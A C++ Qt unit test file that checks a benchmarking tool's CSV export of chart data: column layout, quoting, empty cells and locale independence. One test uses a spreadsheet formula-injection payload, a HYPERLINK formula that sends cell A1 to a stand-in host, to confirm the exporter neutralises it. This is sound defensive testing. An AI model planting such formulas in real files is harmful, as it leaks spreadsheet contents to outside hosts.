// SPDX-License-Identifier: GPL-3.0-or-later
// The data of a chart as a table: the figures that it draws, in the form that every export of numbers has (EXP-01, EXP-02, EXP-03, EXP-10).
#include "core/session/csv.h"
#include "core/stats/analysis.h"
#include "tests/support/warningguard.h"
#include "tests/ui/window/sample.h"
#include "ui/chartcsv.h"
#include "ui/charts/chartdata.h"
#include "ui/charts/reductiondata.h"

#include <QLocale>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace sweepbench;
using namespace sweepbench::test;

namespace {

/// The records of RFC 4180 text, quotes taken away.
QList<QStringList> records(const QByteArray &csv)
{
    QList<QStringList> all;
    QStringList fields{QString()};
    bool quoted = false;
    const QString text = QString::fromUtf8(csv);
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (c == u'"' && quoted && i + 1 < text.size() && text[i + 1] == u'"') {
            fields.last() += c;
            ++i;
        } else if (c == u'"') {
            quoted = !quoted;
        } else if (c == u',' && !quoted) {
            fields << QString();
        } else if (c == u'\r' && !quoted) {
            all << fields;
            fields = QStringList{QString()};
            ++i;
        } else {
            fields.last() += c;
        }
    }
    return all;
}

} // namespace

class TestChartCsv : public GuardedTest
{
    Q_OBJECT

private slots:
    void sweepHasThePointsOfTheChart()
    {
        SampleOptions options;
        options.repeats = 8; // fewer show no outlier
        const Session session = withOutlier(sampleSession(options));
        const Analysis analysis = analyse(session);
        const auto rows = records(chartCsv(ChartKind::Sweep, session, analysis));
        const SweepData data = sweepData(session.plan, analysis);
        QCOMPARE(rows.size(), qsizetype(1 + session.plan.targets.size() * data.levels.size()));
        const QStringList titles = rows.first();
        QCOMPARE(titles.mid(0, 5), (QStringList{u"target"_s, u"connections"_s, u"trials"_s, u"rps"_s, u"rps_ci_low"_s}));
        QVERIFY(titles.contains(u"p99_ns"_s) && titles.contains(u"p99_ns_ci_high"_s));
        bool outlier = false;
        for (const QStringList &row : rows.mid(1)) {
            QCOMPARE(row.size(), titles.size());
            const auto target = std::size_t(data.names.indexOf(row[0]));
            const auto &line = data.rps.lines[target];
            const auto point = std::find_if(line.begin(), line.end(), [&](const SweepPoint &p) { return p.level == row[1].toInt(); });
            QCOMPARE(row[3].toDouble(), *point->value); // to the last digit
            QCOMPARE(row[4].toDouble(), *point->low);
            outlier = outlier || !row[6].isEmpty();
        }
        QVERIFY(outlier);
    }

    void reductionHasItsPairs()
    {
        SampleOptions options;
        options.targets = 3;
        const Session session = sampleSession(options);
        const auto rows = records(chartCsv(ChartKind::Reduction, session, analyse(session)));
        const ReductionData data = reductionData(session);
        QCOMPARE(rows.size(), qsizetype(1 + 2 * data.levels.size()));
        QCOMPARE(rows[1][0], u"Apache"_s);
        QCOMPARE(rows[1][1], u"nginx"_s);
        QCOMPARE(rows[1][3].toInt(), data.lines[1][0].pairs);
        QCOMPARE(rows[1][4].toDouble(), *data.lines[1][0].percent);
    }

    void timeHasTheSpansOfEveryTrial()
    {
        const Session session = sampleSession();
        for (const ChartKind kind : {ChartKind::Throughput, ChartKind::Latency}) {
            const auto rows = records(chartCsv(kind, session, analyse(session)));
            qsizetype spans = 0;
            for (const TrialPtr &trial : session.trials)
                spans += qsizetype(trial->series.size());
            QCOMPARE(rows.size(), 1 + spans);
            QCOMPARE(rows[0].last(), kind == ChartKind::Latency ? u"p99_ns"_s : u"rps"_s);
        }
    }

    void ratesAreNamedAsRates()
    {
        SampleOptions options;
        options.levels = {500, 1000};
        options.rates = true;
        const Session session = sampleSession(options);
        for (const ChartKind kind : allChartKinds)
            QVERIFY(records(chartCsv(kind, session, analyse(session))).first().contains(u"rate_per_s"_s));
    }

    void namesAreSafeAndColumnsStayInLine()
    {
        Session session = sampleSession();
        session.plan.targets[0].name = u"=HYPERLINK(\"http://x/?\"&A1)"_s;
        session.plan.targets[1].name = u"a,\"b\"; c"_s;
        for (const ChartKind kind : allChartKinds) {
            const auto rows = records(chartCsv(kind, session, analyse(session)));
            QVERIFY(rows.size() > 1);
            for (const QStringList &row : rows) {
                QCOMPARE(row.size(), rows.first().size());
                for (const QString &cell : row)
                    QVERIFY2(!cell.startsWith(u'='), qPrintable(cell));
            }
            QVERIFY(csvOriginal(rows[1][0]) == session.plan.targets[0].name || rows[1][0] == session.plan.targets[1].name
                    || csvOriginal(rows[1][1]) == session.plan.targets[0].name);
        }
    }

    void noDataIsAnEmptyCell()
    {
        Session session = sampleSession();
        for (TrialPtr &trial : session.trials) {
            Trial failed = *trial;
            failed.requests = 0;
            failed.errors[ErrorKind::Connect] = failed.sent;
            failed.latency = {};
            failed.series.clear();
            failed.findings = {{u"no_answer"_s, Severity::Unfit, u"no answer"_s}};
            trial = std::make_shared<const Trial>(failed);
        }
        for (const Session &each : {session, Session{}})
            for (const ChartKind kind : allChartKinds) {
                const QByteArray csv = chartCsv(kind, each, analyse(each));
                QVERIFY(csv.endsWith("\r\n"));
                QVERIFY2(!csv.contains("nan") && !csv.contains("inf"), csv.constData());
            }
    }

    void localeChangesNothing()
    {
        const Session session = sampleSession();
        const Analysis analysis = analyse(session);
        for (const ChartKind kind : allChartKinds) {
            const QByteArray before = chartCsv(kind, session, analysis);
            QLocale::setDefault(QLocale(QLocale::German, QLocale::Germany));
            const QByteArray german = chartCsv(kind, session, analysis);
            QLocale::setDefault(QLocale(QLocale::Arabic, QLocale::Egypt));
            const QByteArray arabic = chartCsv(kind, session, analysis);
            QLocale::setDefault(QLocale::c());
            QCOMPARE(german, before);
            QCOMPARE(arabic, before);
        }
    }
};

QTEST_MAIN(TestChartCsv)
#include "tst_chartcsv.moc"
